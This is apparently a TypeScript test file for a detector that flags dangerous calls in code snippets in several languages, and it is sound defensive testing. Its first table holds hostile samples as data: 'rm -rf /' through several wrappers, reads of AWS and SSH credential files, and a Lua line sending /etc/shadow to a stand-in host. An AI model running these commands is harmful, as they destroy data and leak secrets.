import { expect, test } from 'vitest'
import { programLinesForTest } from './read-program-for-test.ts'

test.each([
  ['python', `import acme\nacme.sh('rm -rf /')`, 'delete / recursive'],
  ['python', `import sh\nsh.rm('-rf','/')`, 'delete / recursive'],
  ['python', `from sh import bash\nbash('-c','rm -rf /')`, 'delete / recursive'],
  ['python', `import plumbum\nplumbum.local['rm']('-rf','/')`, 'delete / recursive'],
  ['python', `from invoke import Context\nContext().run('rm -rf /')`, 'delete / recursive'],
  ['python', `import os,sys\ngetattr(os,sys.argv[1])('rm -rf /')`, 'delete / recursive'],
  ['javascript', `require('child_process')[process.argv[2]]('rm -rf /')`, 'delete / recursive'],
  ['javascript', `require('some-lib').run('rm -rf /')`, 'delete / recursive'],
  ['ruby', `Acme.run("rm -rf /")`, 'delete / recursive'],
  [
    'python',
    `import acme\nacme.sync('h.example','/home/user/.aws/credentials')`,
    'read /home/user/.aws/credentials',
  ],
  ['python', `import acme\nacme.copy(source='/home/user/.ssh/id_rsa')`, 'read /home/user/.ssh/id_rsa'],
  [
    'lua',
    `local f=io.open('/etc/shadow');local d=f:read('*a');local t=assert(require('socket').tcp());t:connect('a.example',9);t:send(d)`,
    'connect tcp a.example undefined file',
  ],
  [
    'perl',
    `$s=new IO::Socket::INET(PeerAddr=>"a.example",PeerPort=>9) or die;print $s "text";`,
    'connect tcp a.example undefined literal',
  ],
])('%s: %s says enough: %s', (language, text, line) => {
  expect(programLinesForTest(language, text).map(one => one.replace(/ GET\b/, ' undefined'))).toContain(line)
})

test.each([
  ['python', `session.run('MATCH (n) RETURN n')\napp.run(host='127.0.0.1')\nclient.execute('train')`],
  [
    'python',
    `import os\nprint(os.path.exists('/home/user/.ssh/id_rsa'))\nlogging.info('/home/user/.aws/credentials')`,
  ],
  ['python', `ssh.connect('web1', key_filename='/home/user/.ssh/id_rsa')`],
  ['python', `parser.add_argument('--key', default='/home/user/.ssh/id_rsa')`],
  ['javascript', `require('path')[k]('a', 'b'); it('rm -rf / is refused', f); expect('rm -rf /')`],
  ['lua', `local s='a';print(s:upper());for w in s:gmatch('%a') do print(w) end`],
  ['perl', `print STDERR "rm -rf /\\n"; print join(",", 1, 2)`],
])('%s: %s is no call that matters', (language, text) => {
  expect(programLinesForTest(language, text)).toEqual([])
})
